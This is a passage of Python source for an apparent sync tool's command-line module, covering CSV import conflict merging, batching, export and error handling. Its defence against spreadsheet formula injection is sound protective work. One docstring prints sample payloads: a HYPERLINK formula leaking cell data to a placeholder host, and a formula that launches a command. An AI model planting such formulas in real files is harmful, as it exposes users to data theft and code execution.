                        # the file; a new record, as without _rev, but said (not a row
                        # without a key that kept the _rev cell of the row copied)
                        seen.new_key(line, top, key)
                slots.append(_Row(line, act, base))
                continue
            now_is = rv.fields
            if base is None:
                changed = {k: v for k, v in arg.items()
                           if not _same(now_is.get(k), v, k in refs)}
                _not_garbled(changed, now_is)
            else:
                # only the cells the user changed against what was exported: a cell that
                # differs from the record now, unless it holds the record's value at _rev
                # of a field another user changed since (the file was read before that
                # change: left alone, the newer value stays). A field the user changed
                # since _rev (accepted since, or pending, e.g. a typo undone in the sheet;
                # the record at _rev is the replica's, not what the file showed) is sent
                # when the cell differs from the record now
                was = then.get((base, key), {})
                changed, maybe = {}, []
                differs: dict[str, Any] = {}
                for k, v in arg.items():
                    if _same(now_is.get(k), v, k in refs):
                        continue
                    if _same(was.get(k), v, k in refs):
                        maybe.append(k)
                    elif (line in ahead and (base, key) in then
                          and not _same(was.get(k), now_is.get(k), k in refs)):
                        # a sheet from a satellite further on, a field holding this
                        # replica's pending edit (the record now differs from the record
                        # at the replica's revision), the cell neither (review muser13:
                        # sent, the edit silently overwritten, then folded into the
                        # import's conflict): a colleague's change not received yet, or
                        # the sheet's user's; which is not known here: kept, said. (A
                        # record made here and not synced yet is not at that satellite: its
                        # cells are sent as before)
                        differs[k] = v
                    else:
                        changed[k] = v
                _not_garbled(changed, now_is, was)
                if differs and check:
                    seen.keep_own_differs(line, top, key, differs)
                if maybe and line in ahead:
                    # a sheet from a satellite further on (user review 13): it cannot hold
                    # this replica's own edits not yet at the hub (pending), so
                    # a cell with the value from before such an edit is the sheet being
                    # older than it, not the sheet's user changing it back: kept, said
                    if check:
                        seen.keep_own(line, top, key, maybe)
                    maybe = []
                if maybe:
                    later.append((len(slots), line, key, arg, base, changed, maybe))
                    slots.append(None)
                    continue
            slots.append(_mod_row(sat, top, line, key, base, changed, (), seen, check))
        except OutpostError as exc:
            fail(line, exc)
    if later:
        theirs = _changed_by_others(sat, top, [(key, base, maybe)
                                               for _, _, key, _, base, _, maybe in later])
        for i, line, key, arg, base, changed, maybe in later:
            others = theirs.get((base, key), set())
            try:
                slots[i] = _mod_row(sat, top, line, key, base, {
                    k: v for k, v in arg.items()
                    if k in changed or (k in maybe and k not in others)},
                    [k for k in maybe if k in others], seen, check)
            except OutpostError as exc:
                fail(line, exc)
    out = [r if r.line not in ahead else r._replace(alone=True) for r in slots if r is not None]
    if not check:
        by_base: dict[Rev, list[int]] = {}
        for i, r in enumerate(out):
            if r.base is not None and r.base < now:
                by_base.setdefault(r.base, []).append(i)
        split: dict[int, _Row] = {}  # the cells of a row that do not clash: queued as usual
        for b, idx in by_base.items():
            for i, c in zip(idx, sat.clashes_since([out[i].act for i in idx], b), strict=True):
                if c is None:
                    continue
                r = out[i]
                arg = r.act.arg or {}
                if r.act.cmd == Cmd.MOD and c.fields and set(arg) - set(c.fields):
                    # per cell: only the cells changed on both sides go to the conflict
                    # inbox (a transaction of their own); the others are queued as usual
                    a = r.act
                    split[i] = r._replace(act=Action(a.top, a.key, a.cmd, {
                        k: v for k, v in arg.items() if k not in c.fields}))
                    r = r._replace(act=Action(a.top, a.key, a.cmd, {
                        k: v for k, v in arg.items() if k in c.fields}))
                out[i] = r._replace(clash=_clash_text(c), fields=tuple(c.fields), part=i in split)
        if split:
            out = [x for i, r in enumerate(out) for x in ((split[i], r) if i in split else (r,))]
    return out


def _deleted_by(sat: Satellite, top: str, key: str, base: Rev) -> str:
    """``by bob``: who deleted the record after ``base`` (``by you`` for this satellite's
    own deletion, accepted or not yet sent)."""
    dels = [h for h in sat.history(top, key) if h.cmd == Cmd.DEL and h.rev > base]
    last = max(dels, key=lambda h: h.rev) if dels else None
    if last is None or sat.own_revs([last.rev]):
        return "by you"
    return f"by {last.usr}" if last.usr else "by another user"


def _changed_by_others(sat: Satellite, top: str, rows: list[tuple[str, Rev, list[str]]]
                       ) -> dict[tuple[Rev, str], set[str]]:
    """(``_rev``, key) -> those of the fields asked for (``rows``: key, ``_rev``, fields)
    that another user changed since ``_rev``, as the replica knows (one read per distinct
    ``_rev``). A change made after ``_rev`` by this satellite (accepted since, or pending)
    is the user's own: not in the answer."""
    ask: dict[Rev, dict[str, set[str]]] = {}
    for key, base, fields in rows:
        ask.setdefault(base, {}).setdefault(key, set()).update(fields)
    out: dict[tuple[Rev, str], set[str]] = {}
    for b, asked in ask.items():
        keys = list(asked)
        acts = [Action(top, k, Cmd.MOD, dict.fromkeys(sorted(asked[k]))) for k in keys]
        for k, c in zip(keys, sat.clashes_since(acts, b), strict=True):
            if c is not None:
                # a field-less clash (the record deleted and made again since): all of them
                out[(b, k)] = set(c.fields) if c.fields else asked[k]
    return out


def _mod_row(sat: Satellite, top: str, line: int, key: str, base: Rev | None,
             changed: dict[str, Any], kept: Sequence[str], seen: _Counts,
             check: bool) -> _Row | None:
    """The ``mod`` of a row's ``changed`` cells (``None``: none; counted unchanged);
    ``kept``: its cells left alone (said)."""
    if kept and check:
        seen.keep(line, top, key, kept)
    if not changed:
        if check:
            seen.unchanged += 1
        return None
    _required_cells(sat.project.model(top), changed, " (the record holds one: an empty cell "
                    "would clear it)")
    if check and base is None:
        seen.overwrites += 1
    act = Action(top, key, Cmd.MOD, changed)
    if check:
        _check_row(sat, act)
    return _Row(line, act, base)


def _required_cells(model: Any, cells: Mapping[str, Any], why: str) -> None:
    """Raise ValidationError naming the empty cells (``None``) among ``cells`` of required
    fields of ``model`` (``why``: what more to say)."""
    empty = [f.name for f in model.fields if f.required and f.name in cells
             and cells[f.name] is None]
    if empty:
        raise ValidationError(f"column {empty[0]}: empty, but {model.topic}'s {empty[0]} is "
                              f"required: give a value{why}"
                              + (f" (also empty: {_names(empty[1:])})" if empty[1:] else ""))


def _check_row(sat: Satellite, act: Action) -> None:
    """Raise ValidationError when a row's action does not fit the schema or a transaction."""
    sat.project.check_action(act)
    if len(dumps(enc_action(act))) > MAX_TRANS_BYTES:
        raise ValidationError(f"the row is over {MAX_TRANS_BYTES // 1024} KiB encoded, more "
                              "than one transaction may hold: shorten its texts")


def _clash_text(c: Any) -> str:
    """``name changed at <rev>``: a conflict found at import, in a few words."""
    what = {"field changed": "changed", "modified": "changed"}.get(
        c.reason, c.reason)
    return (f"{', '.join(c.fields)} {what}" if c.fields else f"the record was {what}") + (
        f" at {format_rev(c.rev)}" if c.rev else "")


def _same(stored: Any, cell: Any, ref: bool) -> bool:
    """Whether a CSV cell's value is what the record holds, as export writes it: an empty
    cell is both null and "" (export writes both so), a ref's key may be an int."""
    if cell is None:
        return stored is None or stored == ""
    if ref and stored is not None:
        return str(stored) == str(cell)
    return bool(stored == cell) and isinstance(stored, bool) == isinstance(cell, bool)


def _batches(rows: Iterable[_Row]
             ) -> Iterator[list[_Row]]:
    """Transactions of at most IMPORT_BATCH rows and IMPORT_BYTES encoded (one row at least),
    each of rows with the same ``_rev`` (or none): a new one starts where it changes.

    A transaction has one base. Rows of a file joined from two exports under the oldest
    ``_rev`` saw a change made between the two as made after their base: a conflict that is
    not one (and a row without ``_rev``, meant to overwrite, the same); the newest would miss
    real ones."""
    batch: list[_Row] = []
    size = 0
    for row in rows:
        if row.clash or row.alone:
            # one the hub will reject (or may): alone, so that the rows of its batch are not
            # rejected with it (a transaction is rejected whole)
            if batch:
                yield batch
                batch, size = [], 0
            yield [row]
            continue
        grow = len(dumps(enc_action(row.act))) + 1
        if batch and (size + grow > IMPORT_BYTES or len(batch) >= IMPORT_BATCH
                      or row.base != batch[0].base):
            yield batch
            batch, size = [], 0
        batch.append(row)
        size += grow
    if batch:
        yield batch


def _cmd_export(args: argparse.Namespace) -> int:
    # the revision first, then the records: a record read after a change arrived is newer
    # than _rev, which an import takes as the user's value only where it differs from both
    # (an older _rev errs on the safe side: a conflict, never an overwrite)
    model, rev, views = read_settled(args, lambda sat: (sat.project.model(args.topic), sat.rev(),
                                                 sat.records(args.topic)))
    out = CsvExport(model, None if args.no_rev else rev, sheet=args.for_spreadsheet)
    # UTF-8 whatever the locale (review 16: in a Latin-1 one the file stopped at the first
    # character Latin-1 has not, with a traceback); the bytes, so that no locale recodes them
    sys.stdout.flush()
    raw = getattr(sys.stdout, "buffer", None)
    dest = sys.stdout if raw is None else io.TextIOWrapper(raw, encoding="utf-8", newline="")
    try:
        dest.write(out.bom)
        w = out.writer(dest)
        w.writerow(out.header())
        w.writerows(out.row(v) for v in views)
    finally:
        dest.flush()
        if dest is not sys.stdout:
            dest.detach()  # type: ignore[attr-defined]
    if out.formulas:
        print(f"outpost: warning: {formula_warning(out.formulas)}: use `outpost export "
              f"{shlex.quote(args.topic)} --for-spreadsheet` for a file to open in a "
              "spreadsheet (`outpost import --from-spreadsheet` reads it back)",
              file=sys.stderr)
    return 0


def formula_warning(n: int) -> str:
    """What a plain export says of its ``n`` cells a spreadsheet would run as formulas."""
    return (f"{n:,} cell{'s' if n != 1 else ''} a spreadsheet would run as formula"
            f"{'s' if n != 1 else ''} (starting with = + - @ or a tab)")


class CsvExport:
    """The rows ``outpost export`` writes (the app's File → Export CSV too): a header of
    ``key`` and the fields (and ``_rev`` when ``rev`` is given), one row per record, an
    empty cell for no value, json fields and booleans as JSON."""

    def __init__(self, model: Any, rev: Rev | None = None, *, sheet: bool = False):
        self.sheet = sheet  # --for-spreadsheet: formula-leading cells get a ' (for_sheet)
        self.formulas = 0
        """Cells written so far that a spreadsheet would run as formulas (plain export only:
        said after it, with the fix; session 15: written raw, without a word)."""
        self.names = model.field_names()
        self.as_json = {f.name for f in model.fields if f.type == "json"}  # "12" stays a str
        self.tail = [format_rev(rev)] if rev is not None else []
        self.bom = "\ufeff" if sheet else ""
        """What the file starts with: for a spreadsheet, the byte-order mark that makes Excel
        read it as UTF-8 (without, it reads the ANSI code page: ``Zürich`` as ``ZÃ¼rich``,
        review 16); the import skips it."""

    def writer(self, out: Any) -> Any:
        """A ``csv.writer`` on ``out`` for these rows (every cell quoted for a spreadsheet)."""
        return csv.writer(out, lineterminator="\n",
                          quoting=csv.QUOTE_ALL if self.sheet else csv.QUOTE_MINIMAL)

    def header(self) -> list[str]:
        return ["key", *self.names, *([REV_COLUMN] if self.tail else [])]

    def row(self, v: RecordView) -> list[Any]:
        f = v.fields or {}
        row = [v.key, *("" if f.get(n) is None else
                        json.dumps(f[n]) if n in self.as_json or isinstance(f[n], bool)
                        else f[n] for n in self.names), *self.tail]
        if self.sheet:
            return [for_sheet(str(c)) for c in row]
        self.formulas += sum(1 for c in row if type(c) is str and runs_as_formula(c))
        return row


# A cell a spreadsheet reads as a formula starts with one of these (OWASP, "CSV Injection":
# = + - @, tab, carriage return; a line feed and the full-width forms some read alike too)
_FORMULA = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet opening a CSV would take ``cell`` for a formula (and run it:
    ``=HYPERLINK("http://evil/"&A1)``, ``+cmd|' /C calc'!A0``): it starts with a character
    of :data:`_FORMULA` and is not a number such as ``-1.5``."""
    return bool(cell) and cell[0] in _FORMULA and not _NUMBER.fullmatch(cell)


def for_sheet(cell: str) -> str:
    """``outpost export --for-spreadsheet``: ``cell`` with a leading ``'`` when a
    spreadsheet would take it for a formula (it starts with a character of
    :data:`_FORMULA`; a number such as ``-1.5`` is left as it is: a spreadsheet reads it as
    the number) or when it starts with ``'`` itself, so that :func:`from_sheet` (import
    ``--from-spreadsheet``) gives back every cell exactly. The ``'`` is OWASP's advice: the
    spreadsheet shows the text instead of running it."""
    if cell and (cell[0] in _FORMULA or cell[0] == "'") and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def from_sheet(cell: str) -> str:
    """A cell of a file from :func:`for_sheet` as it was: without its leading ``'``."""
    return cell[1:] if cell.startswith("'") else cell


def _carry(args: argparse.Namespace) -> int:
    from desktop.carrycmd import cmd_carry

    return cmd_carry(args)


_HANDLERS = {
    "connect": _cmd_connect, "pub": _cmd_pub, "sync": _cmd_sync, "status": _cmd_status,
    "show": _cmd_show, "history": _cmd_history, "conflicts": _cmd_conflicts,
    "resolve": _cmd_resolve, "discard": _cmd_discard, "import": _cmd_import, "export": _cmd_export,
    "carry": _carry,
}


def run(args: argparse.Namespace) -> int:
    """Run a parsed headless command; errors go to stderr, the exit code is returned."""
    for name, value in vars(args).items():
        # bytes that are not UTF-8 on the command line come as lone surrogates
        # (surrogateescape): they could be neither stored nor sent (paths can: opened as is)
        if name in ("file", "data", "old"):
            continue
        for v in value if isinstance(value, list) else [value]:
            if isinstance(v, str) and not v.isprintable() and _not_utf8(v):
                print(f"outpost: the {name} argument {os.fsencode(v)!r} is not valid "
                      "UTF-8: give it as UTF-8 text", file=sys.stderr)
                return 1
    _never_unencodable()
    if getattr(args, "data", None) is None:
        _note_other_default()
    try:
        rc = _HANDLERS[args.command](args)
        sys.stdout.flush()  # here, so a closed pipe is caught below
        return rc
    except OutpostError as exc:
        print(escape_controls(f"outpost: {exc}", keep="\n\t"), file=sys.stderr)
        return 1
    except BrokenPipeError:
        # the reader of the output went away (`outpost show T | head`): not an error of ours;
        # stdout goes to /dev/null so the interpreter's final flush does not fail again
        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
        return 1
    except OSError as exc:
        if exc.errno not in _OUT_FULL:
            raise
        # writing the output failed (`outpost export T > FILE` on a full disk; session 16: a
        # raw traceback): said in one line, and the final flush goes nowhere (as above)
        print(escape_controls(f"outpost: {_out_failed(exc, args.command)}"), file=sys.stderr)
        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
        return 1


_OUT_FULL = {errno.ENOSPC, errno.EDQUOT, errno.EFBIG}
"""The errors of a write that found no room (a full disk, a quota, ``ulimit -f``)."""


def _out_failed(exc: OSError, command: str) -> str:
    """A failed write of ``command``'s output (``exc``: no room for it), with the fix."""
    try:
        where = os.readlink(f"/proc/self/fd/{sys.stdout.fileno()}")  # Linux: the file
    except (OSError, ValueError):
        where = ""
    where = where if where.startswith("/") else "the standard output"
    limit = 0
    if exc.errno == errno.EFBIG:
        import resource

        soft = resource.getrlimit(resource.RLIMIT_FSIZE)[0]
        limit = 0 if soft == resource.RLIM_INFINITY else int(soft)
    why = (f"this process may write files of at most {limit:,} bytes (ulimit -f): raise "
           "the limit" if limit else f"{exc.strerror or exc}: free space there")
    reader = command in ("show", "export", "status", "history", "conflicts")
    return (f"cannot write the output of `outpost {command}` to {where}: {why}, or write it "
            "to another disk; what was written there is incomplete"
            + (" (the data directory was only read)" if reader else ""))


def _never_unencodable() -> None:
    """Text output in a locale whose encoding is not UTF-8 (Latin-1, ASCII): a character
    it has not is written as ``\\u0928`` (review 16: ``outpost show`` ended with a
    UnicodeEncodeError traceback at a record named in Devanagari). CSV is written as
    UTF-8 whatever the locale (:func:`_cmd_export`)."""
    for stream in (sys.stdout, sys.stderr):
        enc = (getattr(stream, "encoding", None) or "").lower().replace("-", "").replace("_", "")
        if enc not in ("utf8", "utf8sig") and isinstance(stream, io.TextIOWrapper):
            stream.reconfigure(errors="backslashreplace")


def _note_other_default() -> None:
    """One line on stderr while the app's old default replica sits beside the CLI's."""
    other = other_default_replica()
    if other is not None:
        print(f"outpost: note: the app's default profile used another data directory before, "
              f"{other}; this command uses {default_data_dir()}. Move the edits not synced "
              f"there into this one with `outpost carry {other}`, then move {other} "
              "aside", file=sys.stderr)


def _not_utf8(text: str) -> bool:
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return True
    return False


def main(argv: Sequence[str] | None = None) -> int:
    """Standalone entry: ``python -m desktop.headless COMMAND ...``."""
    parser = argparse.ArgumentParser(prog="outpost", description="Outpost satellite (headless)")
    sub = parser.add_subparsers(dest="command", required=True)
    add_commands(sub)
    args = parser.parse_args(argv)
    return run(args)


if __name__ == "__main__":
    sys.exit(main())
